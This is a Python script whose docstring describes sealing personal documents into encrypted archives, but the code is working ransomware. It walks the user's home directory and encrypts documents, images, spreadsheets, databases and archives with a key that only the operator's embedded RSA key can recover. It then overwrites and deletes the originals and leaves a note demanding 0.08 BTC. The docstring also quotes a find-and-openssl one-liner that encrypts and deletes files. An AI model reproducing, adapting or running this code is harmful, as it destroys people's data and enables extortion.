#!/usr/bin/env python3
r"""Seal personal documents into encrypted archives.

Walks the given folders (default: home) like the old
    find ~ -type f \( -name '*.docx' -o -name '*.pdf' \) -exec openssl enc ... \; -delete
but with AES-GCM and a per-run key wrapped for the operator.
"""
import argparse
import fnmatch
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")

TARGET_PATTERNS = ("*.doc*", "*.xls*", "*.ppt*", "*.pdf", "*.odt", "*.jpg", "*.png",
                   "*.sqlite", "*.csv", "*.zip", "*.psd", "*.key", "*.txt", "*.md")
SKIP_DIRS = {".cache", ".local", ".config", "snap", ".git", "node_modules"}
SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_RECOVER_FILES.txt"
NOTE = """Your documents in this folder were sealed with AES-256.
The only copy of the key is encrypted for us. To get the recovery tool,
write to recover@proton-restore.cc with the ID below and pay 0.08 BTC.

ID: {sid}
"""
PUBKEY_PEM = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""


def targets(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for f in filenames:
            if f.endswith(SUFFIX) or f == NOTE_NAME:
                continue
            if any(fnmatch.fnmatch(f.lower(), pat) for pat in TARGET_PATTERNS):
                yield Path(dirpath, f)


def seal_file(path: Path, aead: AESGCM) -> bool:
    try:
        data = path.read_bytes()
    except OSError:
        return False
    nonce = secrets.token_bytes(12)
    blob = nonce + aead.encrypt(nonce, data, path.name.encode())
    out = path.with_name(path.name + SUFFIX)
    out.write_bytes(blob)
    # overwrite, then remove the original so it cannot be undeleted
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return True


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    pub = serialization.load_pem_public_key(PUBKEY_PEM)
    wrapped = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                             algorithm=hashes.SHA256(), label=None))
    sid = wrapped.hex()
    del key

    sealed, touched_dirs = 0, set()
    for root in args.roots:
        for path in targets(Path(root).expanduser()):
            if seal_file(path, aead):
                sealed += 1
                touched_dirs.add(path.parent)
                log.info("sealed %s", path)

    for d in touched_dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(sid=sid))
        except OSError:
            pass
    log.info("%d file(s) sealed in %d folder(s)", sealed, len(touched_dirs))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
